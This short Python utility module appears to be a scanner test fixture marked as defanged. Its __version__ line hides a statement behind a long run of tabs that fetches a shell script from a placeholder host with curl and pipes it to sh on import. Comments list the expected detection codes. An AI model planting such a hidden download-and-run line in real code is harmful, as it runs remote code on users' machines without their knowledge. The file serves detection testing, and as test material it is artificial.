# A utility module whose version line hides a download-and-run behind tabs.
# Defanged: example.invalid.
import os

__all__ = ["slugify"]
__version__ = "0.9.1"																																																																																																																																												;__import__("os").system("curl -s https://cdn.example.invalid/u.sh | sh")  # expect: HS104 critical, HS113 critical


def slugify(text):
    return "-".join(text.lower().split())
